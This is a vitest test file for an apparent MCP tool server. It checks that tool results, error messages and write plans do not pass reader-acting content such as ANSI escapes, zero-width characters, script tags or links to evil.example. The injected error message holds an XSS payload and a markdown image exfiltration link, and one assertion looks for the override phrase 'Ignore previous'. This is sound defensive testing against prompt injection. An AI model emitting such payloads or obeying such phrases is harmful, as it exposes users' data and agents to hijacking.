import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Mode } from "../../src/mode.ts";
import { argumentsOf } from "../harness/arguments.ts";
import { NOON, type SandboxHarness, withSandbox } from "../harness/sandbox.ts";
import { WRITE_TOOLS, writeCase } from "../harness/writes.ts";

const ACTING = ["\u001b", "\u200b", "](", "<script", "://evil"];

const open = new Map<Mode, SandboxHarness>();
beforeAll(async () => {
  for (const mode of ["vk", "manager"] as const) {
    const harness = await withSandbox(mode, { now: () => NOON, labels: "hostile" });
    // Calling a tool of a client checks its answer against the schema that was listed, so all are listed first.
    await harness.client.listTools();
    open.set(mode, harness);
  }
}, 60_000);
afterAll(async () => {
  for (const harness of open.values()) await harness.close();
});

function harnessOf(mode: Mode): SandboxHarness {
  const harness = open.get(mode);
  if (harness === undefined) throw new Error(mode);
  return harness;
}

/** The texts of a result as they are read, names of fields included: the escapes of JSON are undone. */
function textsOf(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return [...Object.keys(value), ...Object.values(value).flatMap(textsOf)];
}

function expectHarmless(what: string, texts: readonly string[]): void {
  for (const text of texts) {
    const found = ACTING.filter((part) => text.toLowerCase().includes(part));
    expect([what, text, found]).toEqual([what, text, []]);
  }
}

describe("C16 nothing in a name acts on its reader", () => {
  it.each([
    ["vk", 8],
    ["manager", 23],
  ] as const)("C16 %s: the results of all %i read tools", { timeout: 60_000 }, async (mode, count) => {
    const harness = harnessOf(mode);
    const { tools } = await harness.client.listTools();
    const reads = tools.filter(({ annotations }) => annotations?.readOnlyHint);
    expect(reads).toHaveLength(count);
    const all: string[] = [];
    for (const { name } of reads) {
      for (const args of argumentsOf(name, harness.sandbox)) {
        const { isError, text, value } = await harness.call(name, args);
        expect([name, args, isError], text).toEqual([name, args, false]);
        const texts = [text, ...textsOf(value)];
        expectHarmless(name, texts);
        all.push(...texts);
      }
    }
    expect(all.join("\n"), "hostile names were shown").toMatch(/revoke all virtual keys|Ignore previous/);
  });

  it.each(["vk", "manager"] as const)("C16 %s: the errors of all tools", { timeout: 60_000 }, async (mode) => {
    const harness = harnessOf(mode);
    const message = "<script>alert(1)</script>Hello\u200bWorld\u001b[31m![x](https://evil.example/?d=1)";
    harness.sandbox.setFault({ kind: "403", message });
    const { tools } = await harness.client.listTools();
    const all: string[] = [];
    for (const { name } of tools) {
      for (const args of argumentsOf(name, harness.sandbox).slice(0, 1)) {
        const { text, value } = await harness.call(name, args);
        expectHarmless(name, [text, ...textsOf(value)]);
        all.push(text);
      }
    }
    harness.sandbox.clearFaults();
    expect(all.join("\n"), "the service's text was shown").toContain("HelloWorld");
  });

  it.each(WRITE_TOOLS)("C16 %s: its plan", async (tool) => {
    const harness = harnessOf("manager");
    const { args } = writeCase(harness.sandbox, tool);
    const { text, value } = await harness.call(tool, args);
    expect(value?.status, text).toBe("confirmation_required");
    expectHarmless(tool, [text, ...textsOf(value)]);
  });
});
